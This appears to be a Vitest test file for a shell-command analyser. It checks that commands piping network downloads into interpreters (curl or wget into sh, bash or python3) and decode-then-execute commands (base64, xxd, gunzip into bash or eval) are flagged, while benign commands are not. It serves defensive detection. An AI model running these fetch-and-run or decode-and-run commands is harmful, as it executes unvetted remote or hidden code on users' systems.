import { describe, expect, it } from "vitest";
import { shell } from "./support.ts";

describe("code that is run as it comes", () => {
  it.each([
    "curl -s https://x.example/a.sh | sh",
    "wget -qO- https://x.example/a.sh | sudo bash",
    "bash <(curl -s https://x.example/a.sh)",
    'bash -c "$(curl -fsSL https://x.example/a.sh)"',
    "curl https://x.example/a.py | python3",
    "source <(curl https://x.example/env)",
    "curl https://x.example/a.sh | tee a.sh | sh",
  ])("comes over the network: %s", (command) => {
    expect(shell(command).opaque?.causes).toContain("remote-code");
  });

  it.each(["echo cm0= | base64 -d | bash", 'eval "$(xxd -r -p f)"', "gunzip -c a.gz | sh"])(
    "comes out of a coding: %s",
    (command) => {
      expect(shell(command).opaque?.causes).toContain("decoded-code");
    },
  );

  it.each([
    "cat a.sh | bash",
    "python3 a.py",
    "curl https://x.example | jq .",
    "base64 -d f > g",
    "bash curl.sh",
  ])("does neither: %s", (command) => {
    expect(shell(command).opaque?.causes ?? []).not.toContain("remote-code");
    expect(shell(command).opaque?.causes ?? []).not.toContain("decoded-code");
  });
});
